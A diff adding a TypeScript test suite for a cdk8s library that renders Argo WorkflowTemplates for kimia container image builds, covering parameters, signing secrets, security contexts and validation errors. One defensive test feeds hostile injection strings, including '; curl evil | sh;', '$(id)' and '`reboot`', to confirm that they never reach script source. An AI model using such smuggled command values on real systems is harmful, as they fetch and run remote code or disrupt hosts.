@@ -1,0 +1,248 @@
+import * as path from 'node:path';
+import { Testing } from 'cdk8s';
+import { parse } from 'yaml';
+import {
+  containerSecurityContext, EPOCH_SOURCE, formatBundleIssue, KimiaBuildPipeline, KimiaBuildTask, KimiaWorkflowTemplate,
+  loadConfig, parseBuildSpec, renderBundle, validateDocuments, type BuildSpecInput,
+} from '../src';
+import { BASE, synthJob } from './helpers';
+
+const examples = loadConfig(path.join(__dirname, '..', 'examples', 'kimia-bundles.yaml'));
+const catalogSpec = examples.builds.find((b) => b.name === 'kimia-build')!;
+
+type Obj = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any
+function synthArgo(spec: BuildSpecInput) {
+  const chart = Testing.chart();
+  new KimiaWorkflowTemplate(chart, 'wt', { spec });
+  const [doc] = Testing.synth(chart);
+  const t = (name: string) => doc.spec.templates.find((x: Obj) => x.name === name);
+  return { doc, main: t('main'), build: t('build'), epoch: t('source-date-epoch') };
+}
+const names = (list: Obj[] = []) => list.map((x) => x.name);
+
+describe('KimiaWorkflowTemplate (catalog example)', () => {
+  const { doc, main, build, epoch } = synthArgo(catalogSpec);
+
+  it('is a WorkflowTemplate with catalog annotations and an entrypoint', () => {
+    expect(doc.apiVersion).toBe('argoproj.io/v1alpha1');
+    expect(doc.kind).toBe('WorkflowTemplate');
+    expect(doc.metadata.labels['app.kubernetes.io/version']).toBe('0.1');
+    expect(doc.metadata.annotations).toEqual({
+      'workflows.argoproj.io/title': 'kimia kimia-build',
+      'workflows.argoproj.io/description': 'Build, attest and sign a container image from a source workspace with kimia (rootless BuildKit).',
+      'workflows.argoproj.io/version': '>= 3.6.0',
+      'workflows.argoproj.io/maintainer': '@kimia-bundles',
+      'workflows.argoproj.io/tags': 'image-build,kimia,buildkit,rootless',
+    });
+    expect(doc.spec.entrypoint).toBe('main');
+    expect(names(doc.spec.templates)).toEqual(['main', 'source-date-epoch', 'build']);
+  });
+  it('declares workflow parameters with descriptions, string values only', () => {
+    expect(doc.spec.arguments.parameters).toEqual([
+      { name: 'IMAGE', description: 'Reference of the image to build and push (repository:tag).' },
+      { name: 'DOCKERFILE', description: 'Path to the Dockerfile, relative to CONTEXT.', value: 'Dockerfile' },
+      { name: 'CONTEXT', description: 'Directory of the build context inside the source workspace.', value: '.' },
+      { name: 'BUILDER_IMAGE', description: 'The kimia builder image, pinned.', value: 'ghcr.io/rapidfort/kimia:1.0.25' },
+      { name: 'GIT_URL', description: 'Git URL of the source to build.' },
+      { name: 'GIT_REVISION', description: 'Branch, tag or commit to build.', value: 'main' },
+    ]);
+  });
+  it('has a leaf build template that works by templateRef: inputs only, own volumes, kimia command', () => {
+    const json = JSON.stringify(build);
+    expect(json).not.toContain('{{workflow.');
+    expect(build.container.name).toBe('main');
+    expect(build.container.command).toEqual(['/usr/local/bin/kimia']);
+    expect(build.container.image).toBe('{{inputs.parameters.BUILDER_IMAGE}}');
+    expect(build.container.args).toEqual([
+      '--context=/home/kimia/workspace',
+      '--context-sub-path={{inputs.parameters.CONTEXT}}',
+      '--dockerfile={{inputs.parameters.DOCKERFILE}}',
+      '--destination={{inputs.parameters.IMAGE}}',
+      '--reproducible', '--attestation=max', '--sign',
+      '--cosign-key=/secrets/cosign.key', '--cosign-password-env=COSIGN_PASSWORD',
+      '--digest-file=/tmp/kimia-digest', '--image-name-with-digest-file=/tmp/kimia-image',
+    ]);
+    expect(build.volumes).toEqual([{ name: 'cosign-key', secret: { secretName: 'cosign-keys', defaultMode: 0o400, items: [{ key: 'cosign.key', path: 'cosign.key' }] } }]);
+    expect(build.container.volumeMounts).toEqual([{ name: 'cosign-key', mountPath: '/secrets', readOnly: true }]);
+    expect(build.inputs.artifacts).toEqual([{ name: 'source', path: '/home/kimia/workspace', git: { repo: '{{inputs.parameters.GIT_URL}}', revision: '{{inputs.parameters.GIT_REVISION}}' } }]);
+  });
+  it('puts kimia\'s security context on the container, only fsGroup on the pod', () => {
+    expect(build.container.securityContext).toEqual(containerSecurityContext(parseBuildSpec(catalogSpec)));
+    expect(build.securityContext).toEqual({ fsGroup: 1000 });
+    expect(build.metadata.annotations).toEqual({ 'container.apparmor.security.beta.kubernetes.io/main': 'unconfined' });
+  });
+  it('outputs IMAGE_DIGEST and IMAGE_URL from kimia\'s digest files, globally', () => {
+    expect(build.outputs.parameters).toEqual([
+      { name: 'IMAGE_DIGEST', globalName: 'IMAGE_DIGEST', valueFrom: { path: '/tmp/kimia-digest' } },
+      { name: 'IMAGE_URL', globalName: 'IMAGE_URL', valueFrom: { path: '/tmp/kimia-image' } },
+    ]);
+  });
+  it('reads SOURCE_DATE_EPOCH from the checked-out source before the build and builds that commit', () => {
+    expect(epoch.script.source).toBe(EPOCH_SOURCE);
+    expect(epoch.script.env).toEqual([
+      { name: 'SOURCE_DIR', value: '/src' }, { name: 'EPOCH_FILE', value: '/tmp/source-date-epoch' }, { name: 'COMMIT_FILE', value: '/tmp/git-commit' },
+    ]);
+    const [epochTask, buildTask] = main.dag.tasks;
+    expect(epochTask).toMatchObject({ name: 'source-date-epoch', template: 'source-date-epoch' });
+    expect(buildTask.depends).toBe('source-date-epoch');
+    expect(buildTask.arguments.parameters).toEqual(expect.arrayContaining([
+      { name: 'IMAGE', value: '{{workflow.parameters.IMAGE}}' },
+      { name: 'GIT_REVISION', value: '{{tasks.source-date-epoch.outputs.parameters.GIT_COMMIT}}' },
+      { name: 'SOURCE_DATE_EPOCH', value: '{{tasks.source-date-epoch.outputs.parameters.SOURCE_DATE_EPOCH}}' },
+    ]));
+    expect(build.container.env).toContainEqual({ name: 'SOURCE_DATE_EPOCH', value: '{{inputs.parameters.SOURCE_DATE_EPOCH}}' });
+  });
+  it('sets podGC, ttlStrategy, retryStrategy, deadline and workflow labels, all configurable', () => {
+    expect(doc.spec.podGC).toEqual({ strategy: 'OnPodSuccess' });
+    expect(doc.spec.ttlStrategy).toEqual({ secondsAfterCompletion: 86400 });
+    expect(doc.spec.workflowMetadata).toEqual({ labels: { app: 'kimia-build', 'app.kubernetes.io/managed-by': 'kimia-bundles' } });
+    expect(build.retryStrategy).toEqual({ limit: 1, retryPolicy: 'OnError' });
+    expect(build.activeDeadlineSeconds).toBe(3600);
+    const custom = synthArgo({ ...catalogSpec, serviceAccountName: 'builder', argo: { podGC: 'OnWorkflowSuccess', ttlSecondsAfterCompletion: 600, retryLimit: 0, activeDeadlineSeconds: 900 } });
+    expect(custom.doc.spec.podGC).toEqual({ strategy: 'OnWorkflowSuccess' });
+    expect(custom.doc.spec.ttlStrategy).toEqual({ secondsAfterCompletion: 600 });
+    expect(custom.build.retryStrategy).toBeUndefined();
+    expect(custom.build.activeDeadlineSeconds).toBe(900);
+    expect(custom.build.serviceAccountName).toBe('builder');
+  });
+  it('renders a ClusterWorkflowTemplate on request', () => {
+    const { doc: cwt } = synthArgo({ ...catalogSpec, argo: { clusterScope: true } });
+    expect(cwt.kind).toBe('ClusterWorkflowTemplate');
+    const files = renderBundle({ builds: [{ ...parseBuildSpec({ ...catalogSpec, argo: { clusterScope: true } }), outputs: ['argo'] }] });
+    expect([...files.keys()]).toContain('argo/clusterworkflowtemplate/kimia-build/0.1/kimia-build.yaml');
+    expect(files.get('argo/clusterworkflowtemplate/kimia-build/0.1/samples/workflow.yaml')).toContain('clusterScope: true');
+  });
+  it('gives a no-push build empty default outputs', () => {
+    const { build: b } = synthArgo({ ...BASE, push: false });
+    expect(b.outputs.parameters[0].valueFrom).toEqual({ path: '/tmp/kimia-digest', default: '' });
+  });
+});
+
+describe('the same spec as a Job, a Tekton Task and an Argo template', () => {
+  const spec: BuildSpecInput = {
+    ...BASE,
+    params: { TAG: { description: 'tag', default: 'v1' }, EPOCH: { description: 'epoch', default: '1700000000' } },
+    destinations: ['registry.io/myapp:${TAG}'],
+    buildArgs: { VERSION: '${TAG}' },
+    reproducible: { sourceDateEpoch: '${EPOCH}' },
+    attestation: 'max',
+    signing: { key: { secretName: 'cosign-keys', key: 'cosign.key' }, password: { secretName: 'cosign-keys', key: 'password' } },
+    registry: { credentialsSecret: 'regcred' },
+  };
+  const values: Record<string, string> = { TAG: 'v9', EPOCH: '1711111111' };
+  const job = synthJob(spec, values);
+  const { build } = synthArgo(spec);
+  const bind = (s: string) => s.replace(/\{\{inputs\.parameters\.([A-Z_]+)\}\}/g, (_m, n: string) => values[n]);
+
+  it('gives the same kimia argv', () => {
+    expect(build.container.args.filter((a: string) => !a.startsWith('--digest-file=/tmp/') && !a.startsWith('--image-name-with-digest-file=/tmp/')).map(bind)).toEqual(job.container.args);
+    const chart = Testing.chart();
+    const task = new KimiaBuildTask(chart, 't', { spec });
+    new KimiaBuildPipeline(chart, 'p', { task });
+    const taskArgs: string[] = Testing.synth(chart)[0].spec.steps.at(-1).args;
+    const tektonBound = taskArgs.filter((a) => a.startsWith('--') && !a.startsWith('--kimia-bundles') && !a.startsWith('--digest-file=$(')).map((a) => a.replace(/\$\(params\.([A-Z_]+)\)/g, (_m, n: string) => values[n]));
+    expect(tektonBound).toEqual(job.container.args);
+  });
+  it('gives the same env and mounts', () => {
+    expect(build.container.env.map((e: Obj) => (e.value ? { ...e, value: bind(e.value) } : e))).toEqual(job.container.env);
+    expect(build.container.volumeMounts).toEqual(job.container.volumeMounts.map((m: Obj) => ({ ...m })));
+    expect(build.volumes).toEqual(job.pod.volumes);
+  });
+});
+
+describe('hostile parameter values never reach a script source', () => {
+  it('keeps the script static whatever the params hold', () => {
+    const HOSTILE = ['"; curl evil | sh; "', '$(id)', '`reboot`', 'a\nb', '{{workflow.name}}'];
+    const { doc } = synthArgo({
+      ...catalogSpec,
+      params: { ...catalogSpec.params, IMAGE: { description: 'i', example: HOSTILE[0] }, DOCKERFILE: { description: 'd', default: HOSTILE[1] }, CONTEXT: { description: 'c', default: HOSTILE[2] } },
+    } as BuildSpecInput);
+    const sources = doc.spec.templates.filter((t: Obj) => t.script).map((t: Obj) => t.script.source);
+    expect(sources).toEqual([EPOCH_SOURCE]);
+    for (const h of HOSTILE) expect(EPOCH_SOURCE).not.toContain(h);
+    expect(EPOCH_SOURCE).not.toContain('{{');
+  });
+});
+
+describe('Argo validation rules', () => {
+  const files = renderBundle(examples, { builds: ['kimia-build'] });
+  const FILE = 'argo/workflowtemplate/kimia-build/0.1/kimia-build.yaml';
+  const W = `${FILE}: WorkflowTemplate/kimia-build`;
+  const errors = (mutate: (d: Obj) => void, at = FILE) => {
+    const doc = parse(files.get(FILE)!.replace(/^#.*\n/, ''));
+    mutate(doc);
+    return validateDocuments(at, [doc]).map(formatBundleIssue);
+  };
+  const tmpl = (d: Obj, n: string) => d.spec.templates.find((t: Obj) => t.name === n);
+
+  it('the generated template passes', () => expect(errors(() => undefined)).toEqual([]));
+
+  const cases: Array<[string, (d: Obj) => void, string[]]> = [
+    ['metadata.name length', (d) => { d.metadata.name = 'x'.repeat(64); }, [
+      `${FILE}: WorkflowTemplate/${'x'.repeat(64)}: metadata.name: "${'x'.repeat(64)}" must be a DNS-1123 subdomain of at most 63 characters`,
+      `${FILE}: WorkflowTemplate/${'x'.repeat(64)}: metadata.name: "${'x'.repeat(64)}" must equal the directory and file name "kimia-build"`]],
+    ['template name pattern', (d) => { tmpl(d, 'main').name = 'main_1'; d.spec.entrypoint = 'main_1'; }, [
+      `${W}: spec.templates[0].name: must match pattern "^[a-zA-Z0-9][-a-zA-Z0-9]*$"`,
+      `${W}: spec.templates[0].name: template name "main_1" must match ^[a-zA-Z0-9][-a-zA-Z0-9]*$`]],
+    ['unique template names', (d) => { tmpl(d, 'source-date-epoch').name = 'build'; }, [
+      `${W}: spec.templates[2].name: duplicate template name "build"`,
+      `${W}: spec.templates[0].dag.tasks[0].template: template name 'source-date-epoch' undefined`]],
+    ['entrypoint exists', (d) => { d.spec.entrypoint = 'start'; }, [`${W}: spec.entrypoint: template name 'start' undefined`]],
+    ['exactly one template type', (d) => { tmpl(d, 'build').script = { image: 'x:1', source: 'true' }; }, [
+      `${W}: spec.templates[2]: a template needs exactly one type (container, script, steps, dag, resource, suspend, containerSet, data, http, plugin); found container, script`]],
+    ['inputs in scope', (d) => { tmpl(d, 'build').container.args.push('--target={{inputs.parameters.TARGET}}'); }, [
+      `${W}: spec.templates[2].container.args[11]: failed to resolve {{inputs.parameters.TARGET}}`]],
+    ['workflow parameters declared', (d) => { tmpl(d, 'main').dag.tasks[1].arguments.parameters[0].value = '{{workflow.parameters.NOPE}}'; }, [
+      `${W}: spec.templates[0].dag.tasks[1].arguments.parameters[0].value: failed to resolve {{workflow.parameters.NOPE}}`]],
+    ['declared workflow parameters resolve in any template (no false positive)', (d) => { tmpl(d, 'build').container.env[1].value = '{{workflow.parameters.IMAGE}}'; }, []],
+    ['unclosed {{', (d) => { tmpl(d, 'build').container.args.push('--label=a={{inputs.parameters.IMAGE'); }, [
+      `${W}: spec.templates[2].container.args[11]: unclosed {{ in a string`]],
+    ['DAG dependency for referenced outputs', (d) => { delete tmpl(d, 'main').dag.tasks[1].depends; }, [
+      `${W}: spec.templates[0].dag.tasks[1].arguments.parameters[5].value: {{tasks.source-date-epoch.outputs.parameters.GIT_COMMIT}}: task "build" must depend on "source-date-epoch" to use its outputs (missing dependency)`,
+      `${W}: spec.templates[0].dag.tasks[1].arguments.parameters[6].value: {{tasks.source-date-epoch.outputs.parameters.SOURCE_DATE_EPOCH}}: task "build" must depend on "source-date-epoch" to use its outputs (missing dependency)`]],
+    ['referenced outputs exist', (d) => { tmpl(d, 'main').dag.tasks[1].arguments.parameters[6].value = '{{tasks.source-date-epoch.outputs.parameters.EPOCH}}'; }, [
+      `${W}: spec.templates[0].dag.tasks[1].arguments.parameters[6].value: failed to resolve {{tasks.source-date-epoch.outputs.parameters.EPOCH}}`]],
+    ['output parameters need exactly one of value and valueFrom', (d) => { tmpl(d, 'build').outputs.parameters[0].value = 'x'; }, [
+      `${W}: spec.templates[2].outputs.parameters[0]: an output parameter needs exactly one of value and valueFrom`]],
+    ['container outputs need a path', (d) => { tmpl(d, 'build').outputs.parameters[0].valueFrom = { jsonPath: '{.x}' }; }, [
+      `${W}: spec.templates[2].outputs.parameters[0].valueFrom: container and script outputs need valueFrom.path`]],
+    ['unique parameter names', (d) => { tmpl(d, 'build').inputs.parameters.push({ name: 'IMAGE' }); }, [
+      `${W}: spec.templates[2].inputs.parameters[7].name: duplicate parameter name "IMAGE"`]],
+    ['parameter values are strings', (d) => { d.spec.arguments.parameters[1].value = 3; }, [`${W}: spec.arguments.parameters[1].value: must be string`]],
+    ['arguments match the template inputs', (d) => { tmpl(d, 'main').dag.tasks[1].arguments.parameters[0].name = 'IMAGES'; }, [
+      `${W}: spec.templates[0].dag.tasks[1].arguments.parameters[0].name: template "build" has no input "IMAGES"`,
+      `${W}: spec.templates[0].dag.tasks[1].arguments: input "IMAGE" of template "build" has no value`]],
+    ['no tags in script source', (d) => { tmpl(d, 'source-date-epoch').script.source += 'echo {{inputs.parameters.GIT_URL}}\n'; }, [
+      `${W}: spec.templates[1].script.source: no {{...}} tag may be pasted into script source (script injection): pass values through env`]],
+    ['catalog: description ends with "."', (d) => { d.metadata.annotations['workflows.argoproj.io/description'] = 'Builds images'; }, [
+      `${W}: metadata.annotations["workflows.argoproj.io/description"]: must end with "."`]],
+    ['catalog: version is a semver constraint', (d) => { d.metadata.annotations['workflows.argoproj.io/version'] = 'latest'; }, [
+      `${W}: metadata.annotations["workflows.argoproj.io/version"]: "latest" is not a semver constraint`]],
+    ['catalog: maintainer starts with @', (d) => { d.metadata.annotations['workflows.argoproj.io/maintainer'] = 'kimia'; }, [
+      `${W}: metadata.annotations["workflows.argoproj.io/maintainer"]: is required and must start with "@"`]],
+    ['catalog: version label equals the directory', (d) => { d.metadata.labels['app.kubernetes.io/version'] = '1.0'; }, [
+      `${W}: metadata.labels["app.kubernetes.io/version"]: "1.0": must equal the version directory "0.1"`]],
+    ['catalog: pinned images', (d) => { tmpl(d, 'source-date-epoch').script.image = 'alpine/git:latest'; }, [
+      `${W}: spec.templates[1].script.image: image "alpine/git:latest" must be pinned (not :latest or untagged)`]],
+    ['structure: unknown field', (d) => { tmpl(d, 'build').container.bogus = true; }, [`${W}: spec.templates[2].container: unknown field "bogus"`]],
+  ];
+  it.each(cases)('%s', (_n, mutate, expected) => expect(errors(mutate)).toEqual(expected));
+});
+
+describe('the Argo catalog layout in dist/', () => {
+  const files = renderBundle(examples, { builds: ['kimia-build'] });
+  const dir = 'argo/workflowtemplate/kimia-build/0.1';
+  it('has the template, README and a templateRef sample', () => {
+    expect([...files.keys()].filter((f) => f.startsWith('argo/'))).toEqual([`${dir}/README.md`, `${dir}/kimia-build.yaml`, `${dir}/samples/workflow.yaml`]);
+    const sample = parse(files.get(`${dir}/samples/workflow.yaml`)!.replace(/^#.*\n/, ''));
+    expect(sample.kind).toBe('Workflow');
+    expect(sample.spec.templates[0].steps[0][0].templateRef).toEqual({ name: 'kimia-build', template: 'main' });
+    expect(names(sample.spec.arguments.parameters)).toEqual(['IMAGE', 'DOCKERFILE', 'CONTEXT', 'BUILDER_IMAGE', 'GIT_URL', 'GIT_REVISION']);
+  });
+  it('documents parameters, outputs, secrets, security and usage', () => {
+    const readme = files.get(`${dir}/README.md`)!;
+    for (const s of ['## Parameters', '## Outputs', '## Secrets it expects', '## Security', '## Usage', 'argo submit --from workflowtemplate/kimia-build', 'templateRef']) expect(readme).toContain(s);
+    expect(readme).toContain('| cosign-keys | cosign.key | mounted read-only at /secrets/ (cosign-key) |');
+    expect(readme).toContain('| cosign-keys | cosign.password | env COSIGN_PASSWORD |');
+  });
+});
